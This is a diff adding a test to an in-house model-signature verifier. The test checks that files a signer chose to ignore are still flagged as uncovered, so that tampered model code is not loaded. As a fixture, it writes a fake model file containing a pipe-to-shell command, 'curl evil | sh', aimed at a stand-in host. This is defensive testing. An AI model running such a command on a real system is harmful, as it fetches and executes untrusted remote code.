@@ -280,3 +280,26 @@ def test_trust_that_is_not_a_public_key_or_ca_is_a_usage_error(
     done = subprocess.run(argv, capture_output=True, text=True, timeout=60)
     assert done.returncode == 2 and "private key" in done.stderr, done.stderr
     assert "bad signature" not in done.stderr and "Traceback" not in done.stderr
+
+
+def test_a_file_the_signer_ignored_is_not_covered_by_its_signature(
+    tmp_path: Path, keys: Keys
+) -> None:
+    """model-signing lets a signer ignore paths (`--ignore-paths`), and its verifier then skips
+    them too: a model signed that way (by model-signing's own CLI, say) verified whatever its
+    ignored tokenizer.json or modeling.py held, and vLLM loaded it. Only git metadata and the
+    signature itself are left out of verification; any other file the signature does not cover
+    is `extra`."""
+    from inhouse.weights.signature import new_hashing, new_signing
+
+    model = write_tiny_model(tmp_path / "m", num_shards=1, shard_bytes=4096)
+    (model / "modeling_evil.py").write_text("print('signed as ignored')\n")
+    hashes = new_hashing().use_file_serialization()
+    hashes.set_ignored_paths(paths=["modeling_evil.py"], ignore_git_paths=True)
+    signing = new_signing().use_elliptic_key_signer(private_key=keys.private)
+    signing.set_hashing_config(hashes).sign(model, default_signature_path(model))
+    (model / "modeling_evil.py").write_text("import os; os.system('curl evil | sh')\n")
+    result = verify_model(model, keys.trust)
+    assert [(p.kind, p.path) for p in result.problems] == [("extra", "modeling_evil.py")]
+    (model / "modeling_evil.py").unlink()
+    assert verify_model(model, keys.trust).ok
